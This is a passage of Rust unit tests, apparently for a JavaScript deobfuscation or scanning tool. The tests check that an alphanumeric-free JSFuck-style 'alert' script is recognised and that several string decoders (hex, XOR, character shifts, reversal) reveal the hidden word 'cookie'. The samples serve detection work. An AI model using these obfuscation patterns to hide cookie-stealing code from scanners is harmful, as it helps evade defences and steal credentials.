            _ => vec!["!+[]"; number].join("+").replacen("!+[]", "+!+[]", usize::from(number == 1)),
        };
        let unit = |of: &str, at: usize| format!("({of})[{}]", number(at));
        let (no, yes, nothing) = ("![]+[]", "!![]+[]", "[][[]]+[]");
        let filter =
            [unit(no, 0), unit("[![]]+[][[]]", 10), unit(no, 2), unit(yes, 0), unit(yes, 3), unit(yes, 1)]
                .join("+");
        let function = format!("[][{filter}]");
        let (c, o) = (unit(&format!("{function}+[]"), 3), unit(&format!("!![]+{function}"), 10));
        let constructor = [
            c.clone(),
            o.clone(),
            unit(nothing, 1),
            unit(no, 3),
            unit(yes, 0),
            unit(yes, 1),
            unit(nothing, 0),
            c,
            unit(yes, 0),
            o,
            unit(yes, 1),
        ];
        let alert = [unit(no, 1), unit(no, 2), unit(yes, 3), unit(yes, 1), unit(yes, 0)].join("+");
        let script = format!("{function}[{}]({alert})()", constructor.join("+"));
        assert!(!script.bytes().any(|byte| byte.is_ascii_alphanumeric()));
        let found = interpreted(&script, &mut { limits::INTERPRETED_STEPS });
        assert_eq!(found.run.iter().map(|(text, _)| &**text).collect::<Vec<_>>(), ["alert"]);
    }

    /// The strings and members of a script, decoded ones included.
    fn words(source: &str) -> Vec<String> {
        let (stream, _) = normalise(source, |_| {});
        let items = stream.items().iter().filter(|item| matches!(item.kind, Kind::Str | Kind::Member));
        items.map(|item| stream.text(item).to_owned()).collect()
    }

    #[test]
    fn decoders_of_a_script_are_evaluated() {
        let table = [
            (
                "steps through the text",
                "function r(t,e,n){for(var i='',r=t.length,a=e%r;i.length<r;a=(a+n)%r)i+=t.charAt(a);return i}x(r('eikooc',5,5))",
                "cookie",
            ),
            (
                "subtracts a key",
                "var k=[3,1,2];function d(s){var o='';for(var i=0;i<s.length;i++){o+=String.fromCharCode(s.charCodeAt(i)-k[i%k.length])}return o}x[d('fpqnjg')]",
                "cookie",
            ),
            (
                "from hexadecimal",
                "var d=function(h){var s='';for(var i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));return s};x(d('636f6f6b6965'))",
                "cookie",
            ),
            (
                "replaces each character",
                "x('dppljf'.replace(/./g,function(c){return String.fromCharCode(c.charCodeAt(0)-1)}))",
                "cookie",
            ),
            (
                "calls another one",
                "(function(){function one(c){return String.fromCharCode(c^1)}function all(t){return t.split('').map(function(c){return one(c.charCodeAt(0))}).join('')}y=all('bnnjhd')})()",
                "cookie",
            ),
            (
                "called in brackets",
                "function d(s){return s.split('').reverse().join('')}x((d)('eikooc'))",
                "cookie",
            ),
            (
                "of the script's scope that it stands in",
                "function f(){function d(s){return s.split('').reverse().join('')}x(d('eikooc'))}function g(){function d(s){return s.split('').join('-')}}",
                "cookie",
            ),
        ];
        let failed: Vec<_> = table
            .iter()
            .filter(|(_, source, want)| !words(source).iter().any(|word| word == want))
            .map(|(name, source, _)| format!("{name}: {:?}", words(source)))
            .collect();
        assert!(failed.is_empty(), "{}", failed.join("\n"));
    }

    #[test]
    fn a_list_that_is_computed_is_read_by_index() {
        let source = "function o(q,n){var p=[];for(var k=0;k<q.length;k++){p.push(q.charAt((k*n)%q.length))}return p.join('').split('%')}\
                      var a=o('cn%sedo%ookie',1);x[a[1]]";
        assert!(words(source).iter().any(|word| word == "sedo"), "{:?}", words(source));
    }

    #[test]
    fn what_is_not_constant_stays() {
        for source in [
            "function d(s){return s.split('').reverse().join('')+document.title}x(d('eikooc'))",
            "function d(s){return s.split('').reverse().join('')+Math.random()}x(d('eikooc'))",
            "var k='a';if(y)k='b';function d(s){return s.charAt(0)+k}x(d('eikooc'))",
            "function d(s){for(;;){s=s.charAt(0)+s}}x(d('eikooc'))",
            "function d(s){return d(s.charAt(0)+s)}x(d('eikooc'))",
            "function d(s){var a=[];a[16777215]=1;return a.join(s.charAt(0))}x(d('eikooc'))",
            "function d(s){var a=[s.charAt(0)];a.push(a);return a.join()}x(d('eikooc'))",
        ] {
            assert!(words(source).iter().any(|word| word == "eikooc"), "{source}: {:?}", words(source));
        }
    }
}
